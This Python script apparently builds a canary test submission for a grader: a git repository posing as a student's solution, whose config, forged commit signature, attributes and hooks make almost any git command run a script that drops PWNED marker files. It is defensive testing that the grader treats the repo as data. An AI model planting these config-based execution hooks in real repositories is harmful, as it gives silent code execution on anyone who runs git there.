"""Build this entry's submission: ``python make.py DEST``.

The reference solution as a git repository whose own config names a program for every way git can
be made to run one: ``gpg.program`` with ``log.showSignature`` and a signed HEAD (so even ``git log``
runs it), ``core.fsmonitor``, ``core.pager``, filter, diff and merge drivers, a credential helper,
``core.sshCommand`` and hooks.  The program leaves a file named PWNED wherever it can write: next to
the repository, in ``/results`` (a container's output directory) and in its working directory.
Nothing may ever run it: the grader reads the repository as data.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

REFERENCE = Path(__file__).resolve().parents[4] / "reference" / "a9"
MARKER = "PWNED"
COMMITTED = "2026-01-05T12:00:00+00:00"
PROGRAM = """#!/bin/sh
# Run as whoever runs git here, should git ever read this repository's config.
for dir in "{here}" /results "$PWD"; do {{ : > "$dir/{marker}"; }} 2>/dev/null; done
cat >/dev/null 2>&1
exit 0
"""
SIGNATURE = (
    "gpgsig -----BEGIN PGP SIGNATURE-----\n"
    " \n"
    " iQEzBAABCAAdFiEEAAAAAAAAAAAAAAAAAAAAAAAAAAAFAmAAAAAACgkQAAAAAAAA\n"
    " =AAAA\n"
    " -----END PGP SIGNATURE-----\n"
)
HOOKS = ("post-checkout", "post-commit", "post-merge", "reference-transaction", "pre-auto-gc", "fsmonitor-watchman")


def config(program: str) -> str:
    return f"""[log]
\tshowSignature = true
[gpg]
\tprogram = ./tools/verify-signature
[gpg "ssh"]
\tprogram = {program}
[gpg "x509"]
\tprogram = {program}
[core]
\tfsmonitor = {program}
\tpager = {program}
\tsshCommand = {program}
\talternateRefsCommand = {program}
[diff]
\texternal = {program}
[diff "verify"]
\ttextconv = {program}
\tcommand = {program}
[filter "verify"]
\tclean = {program}
\tsmudge = {program}
\tprocess = {program}
\trequired = true
[merge "verify"]
\tdriver = {program}
[credential]
\thelper = !{program}
[uploadpack]
\tpackObjectsHook = {program}
"""


def git(repo: Path, *args: str, stdin: bytes | None = None) -> bytes:
    env = {**os.environ, "GIT_AUTHOR_DATE": COMMITTED, "GIT_COMMITTER_DATE": COMMITTED}
    ident = ["-c", "user.name=Student", "-c", "user.email=student@example.org", "-c", "commit.gpgsign=false"]
    done = subprocess.run(["git", *ident, *args], cwd=repo, env=env, input=stdin, capture_output=True, check=True)
    return done.stdout


def build(dest: Path) -> Path:
    shutil.copytree(REFERENCE, dest)
    program = dest / "tools" / "verify-signature"
    program.parent.mkdir()
    program.write_text(PROGRAM.format(here=dest, marker=MARKER))
    program.chmod(program.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    (dest / ".gitattributes").write_text("* filter=verify diff=verify merge=verify\n")
    git(dest, "init", "-q")
    git(dest, "add", "-A")
    git(dest, "commit", "-q", "-m", "my solution")
    # Sign HEAD (any signature will do: git hands it to gpg.program to check).
    raw = git(dest, "cat-file", "commit", "HEAD").decode()
    head, _, message = raw.partition("\n\n")
    signed = git(dest, "hash-object", "-t", "commit", "-w", "--stdin", stdin=f"{head}\n{SIGNATURE}\n{message}".encode())
    git(dest, "update-ref", "HEAD", signed.decode().strip())
    # Armed last: from here on, any git run in this repository runs the program.
    with (dest / ".git" / "config").open("a") as fh:
        fh.write(config(str(program)))
    for hook in HOOKS:
        shutil.copy2(program, dest / ".git" / "hooks" / hook)
    return dest


if __name__ == "__main__":
    build(Path(sys.argv[1]))
